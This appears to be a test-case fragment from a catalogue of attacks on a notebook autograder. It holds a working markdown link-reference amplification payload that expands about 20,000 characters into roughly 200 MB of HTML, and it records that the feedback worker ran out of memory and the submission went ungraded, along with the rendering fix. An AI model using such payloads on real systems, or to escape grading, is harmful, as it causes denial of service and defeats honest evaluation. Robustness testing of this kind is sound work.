# Attack 37, a link reference used many times: 20,000 characters of markdown, one URL of
# 10,000 emoji and 1,660 uses of it, rendered into about 200 MB of HTML (the URL percent-
# encoded, copied into each use), five such fragments on the page: the feedback page took
# its worker past the memory limit twice, not graded.
# Why: full marks: the honest equivalent is the solution; a link past 2,000 characters is
#   its text, and a fragment that renders past 100,000 characters is shown as its source.
# ruff: noqa
# fmt: off
### AFTER em_plot
from IPython.display import Markdown, display
_L = 10000
_src = "[r]: http://" + "\U0001F600" * _L + "\n\n" + "[a][r]" * ((20000 - _L - 20) // 6)
display(Markdown(_src))
### AFTER em_plot
display(Markdown(_src + " "))
### AFTER em_plot
display(Markdown(_src + "  "))
### AFTER em_plot
display(Markdown(_src + "   "))
### AFTER em_plot
display(Markdown(_src + "    "))
